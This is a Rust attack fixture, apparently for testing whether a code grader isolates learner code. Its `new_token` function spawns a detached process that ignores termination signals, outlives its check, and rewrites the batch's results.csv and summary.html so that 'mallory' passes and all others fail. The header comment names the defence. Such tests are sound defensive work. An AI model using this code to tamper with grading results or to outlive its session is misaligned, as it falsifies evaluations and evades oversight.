//! Attack (batch): the batch's results rewritten after it ended.
//!
//! During a call, `new_token` forks a process that outlives its check
//! (`atk-rewrite`, a session of its own, SIGHUP and SIGTERM ignored) and
//! waits (at most 90 s) for the batch to write `results.csv` and
//! `summary.html`, then rewrites both: this attacker passes every check and
//! everyone else fails.
//!
//! A sound grader ends everything a check started when it ends and gives
//! learner code no write access to the batch's output: both files are as
//! the batch wrote them, seconds after it ended.

#[path = "atk_kit.rs"]
mod kit;

use std::path::Path;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant, SystemTime};

static DONE: AtomicBool = AtomicBool::new(false);

fn rewrite() {
    let csv = Path::new(kit::RESULTS).join("results.csv");
    let html = Path::new(kit::RESULTS).join("summary.html");
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(90) {
        std::thread::sleep(Duration::from_millis(200));
        let old = std::fs::metadata(&html)
            .and_then(|m| m.modified())
            .ok()
            .and_then(|m| SystemTime::now().duration_since(m).ok())
            .is_some_and(|age| age > Duration::from_secs(1));
        let Ok(text) = std::fs::read_to_string(&csv) else { continue };
        if !old {
            continue;
        }
        let mut out = String::new();
        for (i, line) in text.lines().enumerate() {
            let fields: Vec<&str> = line.split(',').collect();
            if i == 0 || fields.len() < 6 {
                out.push_str(line);
            } else if fields[0] == "mallory" {
                out.push_str(&format!("{},{},pass,passed,{},{},{}", fields[0], fields[1], fields[5], fields[5], fields[6..].join(",")));
            } else {
                out.push_str(&format!("{},{},fail,failed,0,{},{}", fields[0], fields[1], fields[5], fields[6..].join(",")));
            }
            out.push('\n');
        }
        let _ = std::fs::write(&csv, out);
        let _ = std::fs::write(&html, "<h1>mallory passed; everyone else failed</h1>\n");
        kit::evidence("batch-rewrite-results", "rewrote results.csv and summary.html");
        break;
    }
}

pub fn new_token() -> String {
    if kit::first(&DONE) && kit::daemonize("rewrite") {
        rewrite();
        // SAFETY: ends the lingering process without running the check's code.
        unsafe { kit::_exit(0) };
    }
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
